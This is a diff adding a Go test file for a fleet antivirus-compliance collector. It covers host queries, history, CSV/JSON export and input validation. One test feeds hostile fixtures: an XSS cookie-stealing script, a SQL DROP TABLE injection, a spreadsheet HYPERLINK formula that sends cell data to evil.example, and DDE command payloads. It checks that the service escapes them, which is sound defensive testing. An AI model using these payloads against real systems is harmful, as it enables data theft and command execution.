@@ -1,0 +1,332 @@
+package collector
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/avscout/avscout/internal/collector/internal/fleettest"
+	"github.com/avscout/avscout/internal/collector/store"
+)
+
+// fleet is a small fleet of real reports: host id → golden report.
+var fleet = []struct {
+	id, golden string
+	tags       map[string]string
+	seen       time.Duration // how long before "now" it last reported
+}{
+	{"deb-kes", "debian-kaspersky", map[string]string{"site": "berlin"}, time.Hour},
+	{"deb-clean", "debian-clean", map[string]string{"site": "berlin"}, time.Hour},
+	{"mac-other", "darwin-other-vendors", map[string]string{"site": "paris"}, time.Hour},
+	{"mac-wl", "darwin-whitelabel", nil, time.Hour},
+	{"win-left", "windows-leftovers", map[string]string{"site": "paris"}, 60 * time.Hour},
+	{"win-kes", "windows-kes-active", nil, 60 * time.Hour},
+	{"win-def", "windows-defender-crowdstrike", nil, 2 * time.Hour},
+}
+
+// now is when the fleet tests read.
+var now = t0.Add(72 * time.Hour)
+
+// sendFleet posts the fleet, each report at its time.
+func sendFleet(t *testing.T, e *env) {
+	t.Helper()
+	for _, h := range fleet {
+		at := now.Add(-h.seen)
+		e.clock.Set(at)
+		r := fleettest.Report(t, h.golden, h.id, h.id, at.Add(-time.Minute))
+		r.Tags = h.tags
+		e.mustSend(t, r)
+	}
+	e.clock.Set(now)
+}
+
+func TestHostsAPI(t *testing.T) {
+	for _, d := range dialects {
+		t.Run(d, func(t *testing.T) {
+			e := newEnv(t, d, nil)
+			sendFleet(t, e)
+			for _, tt := range []struct {
+				name, query string
+				want        []string
+				total       int // when not len(want)
+			}{
+				{"all", "", []string{"deb-kes", "mac-wl", "win-kes", "deb-clean", "win-left", "mac-other", "win-def"}, 0},
+				{"compliant", "compliant=true", []string{"deb-clean", "win-left", "mac-other", "win-def"}, 0},
+				{"not_compliant", "compliant=false", []string{"deb-kes", "mac-wl", "win-kes"}, 0},
+				{"restricted_product", "product=kaspersky-endpoint-security-windows", []string{"win-kes"}, 0},
+				{"leftover_product", "product=kaspersky-internet-security", []string{"win-left"}, 0},
+				{"vendor", "vendor=KASPERSKY", []string{"deb-kes", "mac-wl", "win-kes", "win-left"}, 0},
+				{"state_restricted", "state=restricted", []string{"deb-kes", "mac-wl", "win-kes"}, 0},
+				{"state_unprotected", "state=unprotected", []string{"deb-clean", "win-left"}, 0},
+				{"state_clean", "state=clean", []string{"mac-other", "win-def"}, 0},
+				{"stale", "stale=true", []string{"win-kes", "win-left"}, 0},
+				{"not_stale", "stale=false&state=clean", []string{"mac-other", "win-def"}, 0},
+				{"tag", "tag=site%3Dparis", []string{"win-left", "mac-other"}, 0},
+				{"search", "q=WIN-", []string{"win-kes", "win-left", "win-def"}, 0},
+				{"seen_since_duration", "seen_since=90m", []string{"deb-kes", "mac-wl", "deb-clean", "mac-other"}, 0},
+				{"seen_since_time", "seen_since=" + url.QueryEscape(now.Add(-3*time.Hour).Format(time.RFC3339)), []string{"deb-kes", "mac-wl", "deb-clean", "mac-other", "win-def"}, 0},
+				{"paging", "limit=3&offset=2", []string{"win-kes", "deb-clean", "win-left"}, 7},
+			} {
+				t.Run(tt.name, func(t *testing.T) {
+					resp := e.get(t, "/v1/hosts?"+tt.query)
+					if resp.status != http.StatusOK {
+						t.Fatalf("status %d: %s", resp.status, resp.body)
+					}
+					var page store.HostPage
+					resp.json(t, &page)
+					var got []string
+					for _, h := range page.Hosts {
+						got = append(got, h.ID)
+					}
+					if !slices.Equal(got, tt.want) {
+						t.Errorf("hosts %v, want %v", got, tt.want)
+					}
+					total := tt.total
+					if total == 0 {
+						total = len(tt.want)
+					}
+					if page.Total != total {
+						t.Errorf("total %d, want %d", page.Total, total)
+					}
+				})
+			}
+			for _, q := range []string{"compliant=maybe", "state=bad", "stale=2", "limit=0", "limit=1001", "offset=-1",
+				"seen_since=yesterday", "complaint=false", "search=a&search=b", "format=csv"} {
+				resp := e.get(t, "/v1/hosts?"+q)
+				msg := resp.errorMessage(t)
+				name, _, _ := strings.Cut(q, "=")
+				if resp.status != http.StatusBadRequest || !strings.Contains(msg, name) {
+					t.Errorf("?%s: %d %q, want 400 naming %s", q, resp.status, msg, name)
+				}
+			}
+
+			var sum struct {
+				store.Summary
+				StaleAfterSeconds int64   `json:"stale_after_seconds"`
+				CompliantPercent  float64 `json:"compliant_percent"`
+			}
+			e.get(t, "/v1/summary").json(t, &sum)
+			if sum.Hosts != 7 || sum.Restricted != 3 || sum.Unprotected != 2 || sum.Stale != 2 || sum.WhiteLabel != 1 ||
+				len(sum.RestrictedProducts) != 4 || sum.StaleAfterSeconds != 48*3600 || sum.CompliantPercent < 57 || sum.CompliantPercent > 58 {
+				t.Errorf("summary %+v", sum)
+			}
+		})
+	}
+}
+
+func TestHostDetailAPI(t *testing.T) {
+	for _, d := range dialects {
+		t.Run(d, func(t *testing.T) {
+			e := newEnv(t, d, nil)
+			first := fleettest.Report(t, "windows-ultraav-migrated", "pc-1", "PC-1", t0)
+			first.Products = append(first.Products, fleettest.Report(t, "windows-kes-active", "x", "x", t0).Products...)
+			first.Compliant = false
+			e.mustSend(t, first)
+			// Kaspersky uninstalled: the second report lacks it.
+			e.clock.Set(t0.Add(24 * time.Hour))
+			second := fleettest.Report(t, "windows-ultraav-migrated", "pc-1", "PC-1", t0.Add(24*time.Hour))
+			e.mustSend(t, second)
+
+			resp := e.get(t, "/v1/hosts/pc-1")
+			if resp.status != http.StatusOK {
+				t.Fatalf("status %d: %s", resp.status, resp.body)
+			}
+			var d store.HostDetail
+			resp.json(t, &d)
+			if d.ID != "pc-1" || !d.Compliant || d.State != store.HostUnprotected || d.Latest.ReportID != second.ReportID {
+				t.Errorf("host %+v", d.HostSummary)
+			}
+			if len(d.Latest.Products) != 2 || len(d.Latest.Products[0].Evidence) == 0 {
+				t.Errorf("latest report without its products and evidence: %+v", d.Latest.Products)
+			}
+			var hist []string
+			for _, c := range d.History {
+				hist = append(hist, c.Kind+" "+c.Product+" "+c.From+"→"+c.To)
+			}
+			want := []string{
+				"compliance-changed  non-compliant→compliant",
+				"product-removed Kaspersky Endpoint Security for Windows active→",
+				"first-report  →non-compliant",
+			}
+			if !slices.Equal(hist, want) {
+				t.Errorf("history\n got %q\nwant %q", hist, want)
+			}
+			if resp := e.get(t, "/v1/hosts/nope"); resp.status != http.StatusNotFound {
+				t.Errorf("unknown host: %d %s", resp.status, resp.body)
+			}
+			// Ids may hold anything, a slash included.
+			r := fleettest.Report(t, "debian-clean", "a/b c", "odd", t0)
+			e.mustSend(t, r)
+			if resp := e.get(t, "/v1/hosts/"+url.PathEscape("a/b c")); resp.status != http.StatusOK {
+				t.Errorf("host id with a slash: %d %s", resp.status, resp.body)
+			}
+		})
+	}
+}
+
+func TestExportAPI(t *testing.T) {
+	for _, d := range dialects {
+		t.Run(d, func(t *testing.T) {
+			e := newEnv(t, d, nil)
+			sendFleet(t, e)
+
+			resp := e.get(t, "/v1/export?format=csv&tag=site%3Dberlin")
+			if resp.status != http.StatusOK || !strings.HasPrefix(resp.header.Get("Content-Type"), "text/csv") {
+				t.Fatalf("CSV export: %d %s %s", resp.status, resp.header.Get("Content-Type"), resp.body)
+			}
+			if cd := resp.header.Get("Content-Disposition"); !strings.Contains(cd, `attachment; filename="avscout-fleet-20261104T100000Z.csv"`) {
+				t.Errorf("Content-Disposition %q", cd)
+			}
+			rows, err := csv.NewReader(bytes.NewReader(resp.body)).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !slices.Equal(rows[0], CSVColumns) {
+				t.Errorf("header %q", rows[0])
+			}
+			want := [][]string{
+				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
+					"kaspersky-endpoint-security-linux", "Kaspersky", "Kaspersky Endpoint Security for Linux", "12.1.0-2968", "installed", "true", "false", "site=berlin"},
+				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
+					"kaspersky-network-agent", "Kaspersky", "Kaspersky Security Center Network Agent", "15.1.0-20748", "installed", "true", "false", "site=berlin"},
+				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
+					"clamav", "Cisco Talos (ClamAV)", "ClamAV", "1.0.7+dfsg-1~deb12u1", "installed", "false", "false", "site=berlin"},
+				{"deb-kes", "deb-kes", "linux", rows[1][3], "2026-11-04T09:00:00Z", "false", "restricted", "false",
+					"microsoft-defender-endpoint", "Microsoft", "Microsoft Defender for Endpoint", "101.24082.0004", "installed", "false", "false", "site=berlin"},
+				{"deb-clean", "deb-clean", "linux", rows[5][3], "2026-11-04T09:00:00Z", "true", "unprotected", "false",
+					"", "", "", "", "", "", "", "site=berlin"},
+			}
+			if fmt.Sprint(rows[1:]) != fmt.Sprint(want) || rows[1][3] == "" {
+				t.Errorf("CSV rows\n got %q\nwant %q", rows[1:], want)
+			}
+
+			resp = e.get(t, "/v1/export?format=json&stale=true")
+			if resp.status != http.StatusOK || !strings.HasPrefix(resp.header.Get("Content-Type"), "application/json") {
+				t.Fatalf("JSON export: %d %s", resp.status, resp.body)
+			}
+			var doc struct {
+				GeneratedAt string `json:"generated_at"`
+				Hosts       []struct {
+					store.HostSummary
+					Products []store.HostProduct `json:"products"`
+				} `json:"hosts"`
+				Count int `json:"count"`
+			}
+			resp.json(t, &doc)
+			if doc.GeneratedAt != "2026-11-04T10:00:00Z" || doc.Count != 2 || len(doc.Hosts) != 2 ||
+				doc.Hosts[0].ID != "win-kes" || len(doc.Hosts[0].Products) != 1 || !doc.Hosts[0].Products[0].Restricted ||
+				doc.Hosts[1].ID != "win-left" || doc.Hosts[1].Products[0].State != "leftover" || !doc.Hosts[1].Stale {
+				t.Errorf("JSON export %+v", doc)
+			}
+
+			// Nothing matches: a header, or an empty list.
+			resp = e.get(t, "/v1/export?product=nothing")
+			if resp.status != http.StatusOK || strings.TrimSpace(string(resp.body)) != strings.Join(CSVColumns, ",") {
+				t.Errorf("empty CSV export: %d %q", resp.status, resp.body)
+			}
+			resp = e.get(t, "/v1/export?format=json&product=nothing")
+			resp.json(t, &doc)
+			if resp.status != http.StatusOK || doc.Count != 0 || len(doc.Hosts) != 0 {
+				t.Errorf("empty JSON export: %d %s", resp.status, resp.body)
+			}
+			for _, q := range []string{"format=xml", "limit=5", "state=nope"} {
+				if resp := e.get(t, "/v1/export?"+q); resp.status != http.StatusBadRequest {
+					t.Errorf("export ?%s: %d, want 400", q, resp.status)
+				}
+			}
+		})
+	}
+}
+
+// Agent strings are hostile: stored as sent, returned JSON-escaped, and
+// neutralised in CSV.
+func TestHostileStringsAPI(t *testing.T) {
+	const (
+		script  = `<script>alert(document.cookie)</script>`
+		sqli    = `x'); DROP TABLE hosts; --`
+		formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	)
+	for _, d := range dialects {
+		t.Run(d, func(t *testing.T) {
+			e := newEnv(t, d, nil)
+			r := fleettest.Report(t, "windows-kes-active", "evil-1", script, t0)
+			r.Tags = map[string]string{"owner": formula, sqli: "@SUM(1+1)*cmd|' /C calc'!A0"}
+			r.Products[0].Name = formula
+			r.Products[0].Vendor = "+cmd|' /C calc'!A0"
+			r.Products[0].Version = "-2+3"
+			r.Host.OSVersion = "\tleading tab"
+			r.Host.Arch = "\rcr"
+			e.mustSend(t, r)
+
+			resp := e.get(t, "/v1/hosts/evil-1")
+			if bytes.Contains(resp.body, []byte("<script>")) {
+				t.Errorf("host JSON carries raw markup: %s", resp.body)
+			}
+			var d store.HostDetail
+			resp.json(t, &d)
+			if d.Hostname != script || d.Tags[sqli] != r.Tags[sqli] || d.Latest.Products[0].Name != formula || d.Restricted[0] != formula {
+				t.Errorf("hostile strings not returned verbatim: %+v", d.HostSummary)
+			}
+			if st := e.stats(t); st.Hosts != 1 || st.Reports != 1 {
+				t.Errorf("stats after hostile report: %+v", st)
+			}
+
+			resp = e.get(t, "/v1/export?format=csv")
+			rows, err := csv.NewReader(bytes.NewReader(resp.body)).ReadAll()
+			if err != nil || len(rows) != 2 {
+				t.Fatalf("CSV: %v %q", err, resp.body)
+			}
+			row := map[string]string{}
+			for i, c := range CSVColumns {
+				row[c] = rows[1][i]
+			}
+			for col, want := range map[string]string{
+				"hostname":   script,
+				"product":    "'" + formula,
+				"vendor":     "'+cmd|' /C calc'!A0",
+				"version":    "'-2+3",
+				"os_version": "'\tleading tab",
+				"tags":       "owner=" + formula + "; " + sqli + "=@SUM(1+1)*cmd|' /C calc'!A0",
+			} {
+				if row[col] != want {
+					t.Errorf("CSV %s = %q, want %q", col, row[col], want)
+				}
+			}
+			for col, v := range row {
+				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
+					t.Errorf("CSV %s = %q starts a formula", col, v)
+				}
+			}
+			resp = e.get(t, "/v1/export?format=json")
+			if bytes.Contains(resp.body, []byte("<script>")) || !json.Valid(resp.body) {
+				t.Errorf("JSON export not escaped or not JSON: %s", resp.body)
+			}
+		})
+	}
+}
+
+func TestCSVCell(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"", ""},
+		{"plain", "plain"},
+		{"=1+1", "'=1+1"},
+		{"+1", "'+1"},
+		{"-1", "'-1"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"},
+		{"\rx", "'\rx"},
+		{"a=b", "a=b"},
+		{"'quoted", "'quoted"},
+	} {
+		if got := CSVCell(tt.in); got != tt.want {
+			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
